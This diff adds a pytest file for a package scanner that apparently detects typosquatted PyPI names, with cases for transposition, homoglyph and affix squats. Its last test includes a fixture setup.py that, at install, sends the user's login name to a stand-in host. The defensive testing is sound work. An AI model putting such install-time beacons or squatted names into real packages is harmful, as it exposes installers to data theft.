@@ -1,0 +1,113 @@
+"""Typosquat detection against the bundled popular names, and the rule that uses it."""
+
+from __future__ import annotations
+
+import pytest
+from tests.helpers import sdist_bytes
+
+from capwatch.engine import ScanOptions, scan_bytes
+from capwatch.model import Severity, Verdict
+from capwatch.names import (
+    SquatTechnique,
+    damerau_levenshtein,
+    max_distance,
+    normalize,
+    popular_names,
+    typosquat_of,
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "target", "technique"),
+    [
+        ("reqeusts", "requests", SquatTechnique.TRANSPOSITION),
+        ("reqests", "requests", SquatTechnique.EDIT),
+        ("requestss", "requests", SquatTechnique.EDIT),
+        ("urlib3", "urllib3", SquatTechnique.EDIT),
+        ("colourama", "colorama", SquatTechnique.EDIT),
+        ("setuptool", "setuptools", SquatTechnique.EDIT),
+        ("typing-extension", "typing-extensions", SquatTechnique.EDIT),
+        ("pythondateutil", "python-dateutil", SquatTechnique.SEPARATOR),
+        ("Python.Date_Util", "python-dateutil", SquatTechnique.SEPARATOR),
+        ("nurnpy", "numpy", SquatTechnique.HOMOGLYPH),
+        ("djang0", "django", SquatTechnique.HOMOGLYPH),
+        ("c1ick", "click", SquatTechnique.HOMOGLYPH),
+        ("python-requests", "requests", SquatTechnique.AFFIX),
+        ("py-requests", "requests", SquatTechnique.AFFIX),
+        ("requests-python", "requests", SquatTechnique.AFFIX),
+        ("numpy-dev", "numpy", SquatTechnique.AFFIX),
+        ("pandas-lib", "pandas", SquatTechnique.AFFIX),
+        ("pyrequests", "requests", SquatTechnique.AFFIX),
+    ],
+)
+def test_typosquats_are_found(name: str, target: str, technique: SquatTechnique) -> None:
+    squat = typosquat_of(name)
+    assert squat is not None, name
+    assert (squat.target, squat.technique) == (target, technique)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        # Popular names close to each other, all on the list: never typosquats.
+        "requests", "requests-oauthlib", "requests-toolbelt", "boto3", "botocore", "aioboto3",
+        "pyyaml", "yaml", "urllib3", "types-urllib3", "python-dateutil", "Python_Dateutil",
+        "typing-extensions", "typing", "attrs", "PyYAML", "google-api-python-client",
+        # Ordinary names that are not close to anything popular.
+        "sizefmt", "my-cool-project", "ssh-client", "browser-stealer", "internal-billing",
+        # Short names: a different word, not a typo (edit distance is not used up to 4).
+        "sax", "idnb", "rss",
+        # Variants of a popular family, not typos of it.
+        "flask-login", "types-requests", "opentelemetry-instrumentation-flask",
+    ],
+)
+def test_legitimate_names_are_not_typosquats(name: str) -> None:
+    assert typosquat_of(name) is None, typosquat_of(name)
+
+
+def test_every_popular_name_is_never_a_typosquat() -> None:
+    names = popular_names()
+    assert len(names) > 500
+    assert all(typosquat_of(n) is None for n in names)
+
+
+def test_length_aware_thresholds() -> None:
+    assert [max_distance(n) for n in (3, 4, 5, 8, 9, 20)] == [0, 0, 1, 1, 2, 2]
+    assert typosquat_of("tensorfow") is not None  # 9 letters, distance 1
+    assert typosquat_of("tnesorfolw") is not None  # distance 2 on a long name
+    assert typosquat_of("nmupyy") is None  # distance 2 on a short name is too far
+
+
+def test_helpers() -> None:
+    assert normalize("Foo__Bar.baz") == "foo-bar-baz"
+    assert damerau_levenshtein("abcd", "abdc") == 1
+    assert damerau_levenshtein("kitten", "sitting", limit=5) == 3
+    assert damerau_levenshtein("a", "abcdef", limit=2) == 3
+
+
+def _scan(
+    name: str, files: dict[str, str], options: ScanOptions | None = None
+) -> tuple[Verdict, dict[str, Severity]]:
+    options = options or ScanOptions()
+    info = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\nSummary: A package\n"
+    result = scan_bytes(sdist_bytes({"PKG-INFO": info, **files}, top=f"{name}-1.0"), f"{name}-1.0.tar.gz", options)
+    return result.verdict, {f.rule: f.severity for f in result.findings}
+
+
+def test_a_typosquat_name_alone_is_suspicious_at_most() -> None:
+    verdict, rules = _scan("reqeusts", {"reqeusts/__init__.py": "def get(url):\n    return url\n"})
+    assert rules == {"CW210": Severity.MEDIUM}
+    assert verdict is Verdict.SUSPICIOUS
+
+
+def test_a_typosquat_that_acts_at_install_is_malicious() -> None:
+    setup = (
+        "import os, urllib.request\nfrom setuptools import setup\n"
+        "urllib.request.urlopen('https://x.example.invalid/c?u=' + os.getlogin())\n"
+        "setup(name='reqeusts')\n"
+    )
+    verdict, rules = _scan("reqeusts", {"setup.py": setup})
+    assert rules["CW210"] is Severity.HIGH
+    assert verdict is Verdict.MALICIOUS
+    off, rules_off = _scan("reqeusts", {"setup.py": setup}, ScanOptions(metadata_signals=False))
+    assert "CW210" not in rules_off and off <= verdict
